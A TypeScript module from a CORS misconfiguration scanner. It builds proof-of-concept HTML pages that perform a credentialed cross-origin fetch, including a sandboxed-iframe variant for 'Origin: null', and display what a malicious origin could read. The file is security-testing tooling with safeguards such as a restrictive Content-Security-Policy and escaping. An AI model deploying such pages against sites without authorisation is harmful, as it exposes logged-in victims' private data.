import { corsCheckHeaders } from '../cors/check.js';
import { originOf } from '../cors/origin.js';
import type { Finding } from '../model/finding.js';

/**
 * Proof-of-concept pages for origin-trust findings: the page an attacker would
 * host on the origin the server trusts. It makes the cross-origin read a victim's
 * browser would make (with cookies when the server allows credentials) and shows
 * what it got. Pure: the CLI writes the pages (src/poc/write.ts).
 */

export interface PocPage {
  /** `<rule>-<fingerprint prefix>.html`, unique per finding. */
  fileName: string;
  html: string;
  ruleId: string;
  target: string;
  /** The origin to host the page on (`null`: any origin; the page reads from a sandboxed iframe). */
  origin: string;
  credentials: 'include' | 'omit';
}

/**
 * Whether the read carries the victim's credentials: the rule says so in
 * `data.credentials`; without it, whether the evidence grants `origin` with
 * credentials exactly as a browser checks it.
 */
function credentialsOf(finding: Finding, origin: string): 'include' | 'omit' {
  if (finding.data['credentials'] !== undefined) return finding.data['credentials'] === 'true' ? 'include' : 'omit';
  const granted = finding.evidence.some(
    (evidence) => evidence.request.headers['Origin'] === origin && evidence.response && corsCheckHeaders(evidence.response.headers, origin, 'include').allowed,
  );
  return granted ? 'include' : 'omit';
}

/** JSON for inline <script>: `<` escaped so no value can close the script element. */
const scriptValue = (value: unknown): string => JSON.stringify(value).replace(/</g, '\\u003c').replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');

const htmlText = (value: string): string =>
  value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/**
 * The reading script. It runs in the page (or, for `null`, in a sandboxed iframe
 * that posts its result to the page) and reports through `report(result)`.
 */
function readerScript(target: string, credentials: 'include' | 'omit'): string {
  return `(async function () {
  var result = { target: ${scriptValue(target)}, credentials: ${scriptValue(credentials)} };
  try {
    var response = await fetch(result.target, { credentials: result.credentials, mode: 'cors' });
    result.state = 'read';
    result.status = response.status;
    result.headers = Array.from(response.headers.entries());
    result.body = (await response.text()).slice(0, 4096);
  } catch (error) {
    result.state = 'blocked';
    result.error = String(error);
  }
  report(result);
})();`;
}

const SHOW = `function show(result) {
  var status = document.getElementById('status');
  status.dataset.state = result.state;
  status.textContent = result.state === 'read'
    ? 'READ: this page read the response (HTTP ' + result.status + ') cross-origin.'
    : 'BLOCKED: the browser refused the read (' + result.error + ').';
  document.getElementById('result').textContent = JSON.stringify(result, null, 2);
  window.corscanResult = result;
}`;

/**
 * The page's Content-Security-Policy: it may only run its own inline script and
 * style and connect to the target's origin. A page meant to be hosted must not
 * load or send anything else, whatever a server-derived string in it says. The
 * sandboxed iframe of the `null` variant is a srcdoc document and inherits it.
 */
function contentSecurityPolicy(target: string): string {
  const connect = originOf(target) ?? "'none'";
  return `default-src 'none'; connect-src ${connect}; script-src 'unsafe-inline'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'`;
}

/** The page for one finding, or undefined when the finding is not about a trusted origin. */
export function pocPage(finding: Finding, target: string = finding.target): PocPage | undefined {
  const origin = finding.data['origin'];
  if (!origin) return undefined;
  const credentials = credentialsOf(finding, origin);
  const isNull = origin === 'null';
  let script: string;
  if (isNull) {
    // Browsers send Origin: null from a sandboxed iframe without allow-same-origin.
    const inner = `<script>function report(result) { parent.postMessage(result, '*'); }\n${readerScript(target, credentials)}<\/script>`;
    script = `${SHOW}
window.addEventListener('message', function (event) { if (event.data && event.data.target) show(event.data); });
var frame = document.createElement('iframe');
frame.setAttribute('sandbox', 'allow-scripts');
frame.style.display = 'none';
frame.srcdoc = ${scriptValue(inner)};
document.body.appendChild(frame);`;
  } else {
    script = `${SHOW}
function report(result) { show(result); }
${readerScript(target, credentials)}`;
  }
  const where = isNull
    ? 'Open this page from any web origin: it reads from a sandboxed iframe, whose requests carry <code>Origin: null</code>.'
    : `Host this page on <code>${htmlText(origin)}</code> and open it in a browser${credentials === 'include' ? ' where the victim is logged in to the target' : ''}.`;
  const html = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="${htmlText(contentSecurityPolicy(target))}">
<meta name="referrer" content="no-referrer">
<title>corscan proof of concept: ${htmlText(finding.ruleId)}</title>
<style>body{font:14px/1.4 system-ui,sans-serif;margin:2em;max-width:60em}pre{background:#f4f4f4;padding:1em;overflow:auto}#status[data-state=read]{color:#b00020;font-weight:bold}</style>
</head>
<body>
<h1>CORS proof of concept: ${htmlText(finding.ruleId)}</h1>
<p>${htmlText(finding.message)}</p>
<p>${where} It requests <code>${htmlText(target)}</code> with <code>credentials: '${credentials}'</code> and shows what a script on that origin can read.</p>
<p id="status">Reading…</p>
<pre id="result"></pre>
<script>
${script}
</script>
</body>
</html>
`;
  return { fileName: `${finding.ruleId}-${finding.fingerprint.slice(0, 12)}.html`, html, ruleId: finding.ruleId, target, origin, credentials };
}

/** Pages for every origin-trust finding of a report, in report order. */
export function pocPages(findings: readonly Finding[]): PocPage[] {
  return findings.map((finding) => pocPage(finding)).filter((page): page is PocPage => page !== undefined);
}

/** One line telling the user how to use a written page. */
export function pocUsage(page: PocPage, path: string): string {
  const isNull = page.origin === 'null';
  const browser = `open it in a browser${page.credentials === 'include' ? ' logged in to the target' : ''}`;
  const how = isNull ? `serve it from any web origin and ${browser}; it reads as Origin: null from a sandboxed iframe` : `host it on ${page.origin} and ${browser}`;
  return `proof of concept for ${page.ruleId} on ${page.target}: ${path} (${how})`;
}
